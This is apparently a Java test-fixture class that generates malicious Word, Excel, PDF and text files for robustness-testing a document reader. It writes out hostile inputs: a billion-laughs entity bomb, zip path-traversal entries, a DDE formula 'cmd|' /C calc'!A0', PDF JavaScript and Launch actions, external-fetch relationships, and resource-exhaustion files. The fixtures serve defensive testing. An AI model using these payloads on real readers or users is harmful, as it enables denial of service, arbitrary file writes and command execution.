package org.figurebook.read;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.TreeMap;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;

/** Files made by somebody who means harm. */
public final class HostileFiles {
  private static final String W =
      "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"";
  private static final String SHEET =
      "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"";
  private static final String RELATIONSHIPS =
      "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">";
  private static final String OFFICE =
      "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
  private static final String TEXT =
      "<w:p><w:r><w:t>The expenditure is $5 million.</w:t></w:r></w:p>";

  private HostileFiles() {}

  /** Word files, by what is wrong with them. */
  public static Map<String, byte[]> word() throws IOException {
    Map<String, byte[]> files = new TreeMap<>();
    files.put("deep.docx", document("<w:sdt><w:sdtContent>".repeat(20_000) + TEXT));
    files.put("laughs.docx", withPart(plainWord(), "word/document.xml", laughs("w:document " + W)));
    files.put("wide-span.docx", document(table("<w:gridSpan w:val=\"2147483647\"/>")));
    files.put("negative-span.docx", document(table("<w:gridSpan w:val=\"-7\"/>")));
    files.put("no-number.docx", document(table("<w:gridSpan w:val=\"many\"/>")));
    files.put(
        "far-grid.docx",
        document(
            table("")
                .replace("<w:tr>", "<w:tr><w:trPr><w:gridBefore w:val=\"2000000000\"/></w:trPr>")));
    files.put("long-table.docx", document(rows(2_500)));
    files.put("nested-tables.docx", document(nested(60)));
    files.put("many-notes.docx", document(notes(3_000)));
    files.put(
        "fetched-image.docx",
        withPart(
            withPart(
                plainWord(),
                "word/_rels/document.xml.rels",
                relationship("image", "http://fetched.invalid/pixel.png")),
            "word/document.xml",
            documentXml(
                TEXT
                    + "<w:p><w:r><w:drawing><a:blip"
                    + " xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\""
                    + " xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\""
                    + " r:link=\"x1\"/></w:drawing></w:r></w:p>")));
    files.put(
        "fetched-template.docx",
        withPart(
            withPart(
                plainWord(),
                "word/_rels/settings.xml.rels",
                relationship("attachedTemplate", "http://fetched.invalid/macro.dotm")),
            "word/settings.xml",
            "<w:settings "
                + W
                + " xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\">"
                + "<w:attachedTemplate r:id=\"x1\"/></w:settings>"));
    files.put(
        "fetched-part.docx",
        withPart(
            plainWord(),
            "word/_rels/document.xml.rels",
            relationship("footnotes", "http://fetched.invalid/footnotes.xml")));
    files.put(
        "external-schema.docx",
        withPart(
            plainWord(),
            "word/document.xml",
            documentXml(TEXT)
                .replace(
                    W,
                    W
                        + " xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\""
                        + " xsi:schemaLocation=\"x http://fetched.invalid/x.xsd\"")));
    files.put("climbing.docx", withPart(plainWord(), "../../../climbed.xml", "<x/>"));
    files.put("absolute.docx", withPart(plainWord(), "/tmp/climbed.xml", "<x/>"));
    files.put("many-parts.docx", manyParts());
    return files;
  }

  /** Workbooks, by what is wrong with them. */
  public static Map<String, byte[]> workbooks() throws IOException {
    Map<String, byte[]> files = new TreeMap<>();
    files.put(
        "laughs.xlsx", withPart(plainSheet(), "xl/sharedStrings.xml", laughs("sst " + SHEET)));
    files.put(
        "far-corner.xlsx",
        sheet(
            "<row r=\"1\"><c r=\"A1\"><v>1</v></c></row>"
                + "<row r=\"1048576\"><c r=\"XFD1048576\"><v>2</v></c></row>",
            ""));
    files.put(
        "merged-whole.xlsx",
        sheet(
            "<row r=\"1\"><c r=\"A1\"><v>1</v></c></row><row r=\"2\"><c r=\"B2\"><v>1</v></c></row>",
            "<mergeCells><mergeCell ref=\"A1:XFD1048576\"/></mergeCells>"));
    files.put("no-cell.xlsx", sheet("<row r=\"0\"><c r=\"ZZZZ99999999\"><v>1</v></c></row>", ""));
    files.put(
        "high-index.xlsx", sheet("<row r=\"1\"><c r=\"A1\" t=\"s\"><v>999999</v></c></row>", ""));
    files.put(
        "long-number.xlsx",
        sheet(
            "<row r=\"1\"><c r=\"A1\"><v>1E+308</v></c><c r=\"B1\"><v>"
                + "9".repeat(5000)
                + "</v></c></row>",
            ""));
    files.put(
        "fetching-formula.xlsx",
        sheet(
            "<row r=\"1\"><c r=\"A1\"><f>WEBSERVICE(\"http://fetched.invalid/\")</f><v>5</v></c>"
                + "<c r=\"B1\"><f>cmd|' /C calc'!A0</f><v>6</v></c></row>",
            ""));
    files.put(
        "fetched-link.xlsx",
        withPart(
            withPart(
                plainSheet(),
                "xl/worksheets/sheet1.xml",
                "<worksheet "
                    + SHEET
                    + " xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\">"
                    + "<sheetData><row r=\"1\"><c r=\"A1\"><f>[1]Other!A1</f><v>5</v></c></row></sheetData>"
                    + "<hyperlinks><hyperlink ref=\"A1\" r:id=\"x1\"/></hyperlinks></worksheet>"),
            "xl/worksheets/_rels/sheet1.xml.rels",
            relationship("hyperlink", "http://fetched.invalid/other.xlsx")));
    return files;
  }

  /** PDFs, by what is wrong with them. */
  public static Map<String, byte[]> pdfs() {
    Map<String, byte[]> files = new TreeMap<>();
    String page =
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
            + " /Resources << /Font << /F1 5 0 R >> /XObject << /X1 6 0 R >> >> >>";
    String text = "BT /F1 12 Tf 50 700 Td (The expenditure is $5 million.) Tj ET";
    String font = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>";
    String form = "/Type /XObject /Subtype /Form /BBox [0 0 9 9]";
    files.put(
        "page-loop.pdf",
        pdf(
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R 2 0 R 3 0 R] /Count 3 >>",
            page,
            stream("", text),
            font,
            stream(form, "")));
    files.put(
        "parent-loop.pdf",
        pdf(
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 2 0 R >>",
            page.replace("/MediaBox [0 0 595 842]", ""),
            stream("", text),
            font,
            stream(form, "")));
    files.put(
        "outline-loop.pdf",
        pdf(
            "<< /Type /Catalog /Pages 2 0 R /Outlines 7 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            page,
            stream("", text),
            font,
            stream(form, ""),
            "<< /First 8 0 R /Last 8 0 R >>",
            "<< /Title (x) /Next 8 0 R /First 8 0 R /Parent 7 0 R /Dest [3 0 R /Fit] >>"));
    files.put(
        "form-loop.pdf",
        pdf(
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            page,
            stream("", text + " /X1 Do"),
            font,
            stream(form + " /Resources << /XObject << /X1 6 0 R >> >>", "/X1 Do /X1 Do /X1 Do")));
    files.put(
        "structure-loop.pdf",
        pdf(
            "<< /Type /Catalog /Pages 2 0 R /StructTreeRoot 7 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            page,
            stream("", text),
            font,
            stream(form, ""),
            "<< /Type /StructTreeRoot /K [8 0 R] /RoleMap << /A /B /B /A >> >>",
            "<< /S /A /P 7 0 R /K [8 0 R 8 0 R] >>"));
    files.put(
        "actions.pdf",
        pdf(
            "<< /Type /Catalog /Pages 2 0 R /OpenAction 7 0 R /Names << /EmbeddedFiles 8 0 R >> >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            page,
            stream("", text),
            font,
            stream(form, ""),
            "<< /S /JavaScript /JS (app.launchURL\\('http://fetched.invalid/'\\)) /Next << /S /Launch"
                + " /F (/bin/true) /Next << /S /URI /URI (http://fetched.invalid/) >> >> >>",
            "<< /Names [(../../climbed.txt) 9 0 R] >>",
            "<< /Type /Filespec /F (../../climbed.txt) /EF << /F 10 0 R >> >>",
            stream("/Type /EmbeddedFile", "climbed")));
    files.put(
        "external-stream.pdf",
        pdf(
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            page,
            stream("", text),
            font.replace("/Helvetica", "/Own /FontDescriptor 7 0 R"),
            stream(form + " /F << /FS /URL /F (http://fetched.invalid/x) >>", "q Q"),
            "<< /Type /FontDescriptor /FontFile 8 0 R >>",
            stream("/F << /FS /URL /F (http://fetched.invalid/f) >>", "")));
    files.put(
        "gigantic-page.pdf",
        pdf(
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            page.replace("595 842", "99999999999 99999999999"),
            stream(
                "",
                text
                    + " 0 0 m 99999999 0 l S 0 0 m 0 99999999 l S 5 5 88888888 88888888 re S"
                    + " BT /F1 99999999 Tf 50 700 Td (1 2) Tj ET"),
            font,
            stream(form, "")));
    files.put(
        "many-rules.pdf",
        pdf(
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            page,
            stream("", text + rules(12_000)),
            font,
            stream(form, "")));
    files.put(
        "tiny-pieces.pdf",
        pdf(
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            page,
            stream("", text + pieces(20_000)),
            font,
            stream(form, "")));
    files.put(
        "lying-font.pdf",
        pdf(
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            page,
            stream("", text.replace("$5 million", "$15,355 million in 2024")),
            font.replace(">>", "/Encoding /WinAnsiEncoding /ToUnicode 7 0 R >>"),
            stream(form, ""),
            stream(
                "",
                "/CIDInit /ProcSet findresource begin 12 dict begin begincmap\n"
                    + "1 begincodespacerange <00> <ff> endcodespacerange\n"
                    + "2 beginbfrange <20> <34> <0020> <36> <7e> <0036> endbfrange\n"
                    + "1 beginbfchar <35> <0039> endbfchar endcmap end end")));
    files.put(
        "endless-map.pdf",
        pdf(
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            page,
            stream("", text),
            font.replace(">>", "/ToUnicode 7 0 R >>"),
            stream(form, ""),
            stream(
                "",
                "/CIDInit /ProcSet findresource begin 12 dict begin begincmap\n"
                    + "1 begincodespacerange <00000000> <ffffffff> endcodespacerange\n"
                    + "1 beginbfrange <00000000> <7fffffff> <0020> endbfrange endcmap end end")));
    files.put(
        "endless-widths.pdf",
        pdf(
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>",
            page,
            stream("", text),
            font.replace(
                ">>", "/FirstChar -2147483648 /LastChar 2147483647 /Widths [1e99 -1e99] >>"),
            stream(form, "")));
    return files;
  }

  /** Texts, by what is wrong with them. */
  public static Map<String, byte[]> texts() {
    Map<String, byte[]> files = new TreeMap<>();
    String row = "2024 " + "1,234 ".repeat(150);
    files.put("one-line.txt", utf8("1 ".repeat(60_000)));
    files.put(
        "brackets.txt", utf8(("(".repeat(5_000) + "5億元" + ")".repeat(5_000) + "\n").repeat(5)));
    files.put("numerals.txt", utf8("億萬千百十".repeat(3_000) + "元\n"));
    files.put("digits.txt", utf8("9".repeat(40_000) + "億元\n1" + ",000".repeat(8_000) + "\n"));
    files.put("wide-rows.txt", utf8((row + "\n").repeat(150)));
    files.put("lists.txt", utf8("分別為" + "148、".repeat(2_500) + "152宗。\n"));
    files.put("years.txt", utf8("在" + "2024-25、".repeat(5_000) + "年度的開支為5億元。\n"));
    files.put("names.txt", utf8("甲基金(「甲」)".repeat(2_000) + "的開支為5億元。\n"));
    files.put("replies.txt", utf8("答覆編號 ITB001\n問題編號 0001\n".repeat(1_200)));
    files.put("wide.csv", utf8(",".repeat(60_000) + "\n" + "1,2\n".repeat(20_000)));
    files.put("open-quote.csv", utf8("a,b\n\"" + "x\n".repeat(100_000)));
    return files;
  }

  private static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  private static String documentXml(String body) {
    return "<?xml version=\"1.0\" encoding=\"UTF-8\"?><w:document "
        + W
        + "><w:body>"
        + body
        + "</w:body></w:document>";
  }

  private static byte[] document(String body) throws IOException {
    return withPart(plainWord(), "word/document.xml", documentXml(body));
  }

  private static String table(String properties) {
    String cell = "<w:tc><w:tcPr>" + properties + "</w:tcPr>" + TEXT + "</w:tc>";
    return TEXT + "<w:tbl>" + ("<w:tr>" + cell + cell + "</w:tr>").repeat(3) + "</w:tbl>" + TEXT;
  }

  private static String rows(int rows) {
    String cell = "<w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc>";
    return "<w:tbl>" + ("<w:tr>" + cell + cell + "</w:tr>").repeat(rows) + "</w:tbl>" + TEXT;
  }

  private static String nested(int deep) {
    return "<w:tbl><w:tr><w:tc>".repeat(deep) + TEXT + "</w:tc></w:tr></w:tbl>".repeat(deep) + TEXT;
  }

  private static String notes(int count) {
    return "<w:p>" + "<w:r><w:footnoteReference w:id=\"2\"/></w:r>".repeat(count) + "</w:p>" + TEXT;
  }

  /** Ten entities, each ten times the one before. */
  private static String laughs(String root) {
    StringBuilder xml =
        new StringBuilder("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a0 \"ha\">");
    for (int i = 1; i < 12; i++) {
      xml.append("<!ENTITY a").append(i).append(" \"").append(("&a" + (i - 1) + ";").repeat(10));
      xml.append("\">");
    }
    String name = root.substring(0, root.indexOf(' '));
    return xml.append("]><").append(root).append(">&a11;</").append(name).append('>').toString();
  }

  private static String relationship(String kind, String target) {
    return RELATIONSHIPS
        + "<Relationship Id=\"x1\" Type=\""
        + OFFICE
        + kind
        + "\" Target=\""
        + target
        + "\" TargetMode=\"External\"/></Relationships>";
  }

  private static byte[] plainWord() throws IOException {
    Path file = Files.createTempFile("plain", ".docx");
    try {
      return Files.readAllBytes(BadFiles.word(file));
    } finally {
      Files.delete(file);
    }
  }

  private static byte[] plainSheet() throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (XSSFWorkbook workbook = new XSSFWorkbook()) {
      workbook.createSheet("Sheet").createRow(0).createCell(0).setCellValue("Expenditure 5");
      workbook.write(out);
    }
    return out.toByteArray();
  }

  private static byte[] sheet(String rows, String rest) throws IOException {
    String xml =
        "<worksheet " + SHEET + "><sheetData>" + rows + "</sheetData>" + rest + "</worksheet>";
    return withPart(plainSheet(), "xl/worksheets/sheet1.xml", xml);
  }

  private static byte[] manyParts() throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(out)) {
      copy(plainWord(), Map.of(), zip);
      for (int i = 0; i < 60_000; i++) {
        zip.putNextEntry(new ZipEntry("x/" + i));
      }
    }
    return out.toByteArray();
  }

  private static byte[] withPart(byte[] archive, String name, String part) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(out)) {
      copy(archive, Map.of(name, utf8(part)), zip);
    }
    return out.toByteArray();
  }

  private static void copy(byte[] archive, Map<String, byte[]> changed, ZipOutputStream zip)
      throws IOException {
    Map<String, byte[]> parts = new LinkedHashMap<>();
    try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(archive))) {
      for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
        parts.put(entry.getName(), in.readAllBytes());
      }
    }
    parts.putAll(changed);
    for (Map.Entry<String, byte[]> part : parts.entrySet()) {
      zip.putNextEntry(new ZipEntry(part.getKey()));
      zip.write(part.getValue());
    }
  }

  private static String rules(int count) {
    StringBuilder rules = new StringBuilder();
    for (int i = 0; i < count; i++) {
      int x = 20 + i % 550;
      int y = 20 + i / 550 * 7;
      rules.append(' ').append(x).append(' ').append(y).append(" m ");
      rules
          .append(i % 2 == 0 ? x + 9 : x)
          .append(' ')
          .append(i % 2 == 0 ? y : y + 9)
          .append(" l S");
    }
    return rules.toString();
  }

  private static String pieces(int count) {
    StringBuilder pieces = new StringBuilder(" BT /F1 0.01 Tf");
    for (int i = 0; i < count; i++) {
      pieces
          .append(i % 300 == 299 ? " -30 0.02 Td (" : " 0.1 0 Td (")
          .append(i % 10)
          .append(") Tj");
    }
    return pieces.append(" ET").toString();
  }

  private static String stream(String keys, String content) {
    return "<< "
        + keys
        + " /Length "
        + content.length()
        + " >>\nstream\n"
        + content
        + "\nendstream";
  }

  /** A PDF of numbered objects, the first of which is the catalogue. */
  private static byte[] pdf(String... objects) {
    StringBuilder pdf = new StringBuilder("%PDF-1.7\n");
    int[] offsets = new int[objects.length];
    for (int i = 0; i < objects.length; i++) {
      offsets[i] = pdf.length();
      pdf.append(i + 1).append(" 0 obj\n").append(objects[i]).append("\nendobj\n");
    }
    int start = pdf.length();
    pdf.append("xref\n0 ").append(objects.length + 1).append("\n0000000000 65535 f \n");
    for (int offset : offsets) {
      pdf.append("%010d 00000 n \n".formatted(offset));
    }
    pdf.append("trailer << /Size ")
        .append(objects.length + 1)
        .append(" /Root 1 0 R >>\nstartxref\n");
    return pdf.append(start).append("\n%%EOF\n").toString().getBytes(StandardCharsets.ISO_8859_1);
  }

  /** Writes files into a folder. */
  public static void write(Path folder, Map<String, byte[]> files) throws IOException {
    for (Map.Entry<String, byte[]> file : files.entrySet()) {
      try (OutputStream out = Files.newOutputStream(folder.resolve(file.getKey()))) {
        out.write(file.getValue());
      }
    }
  }
}
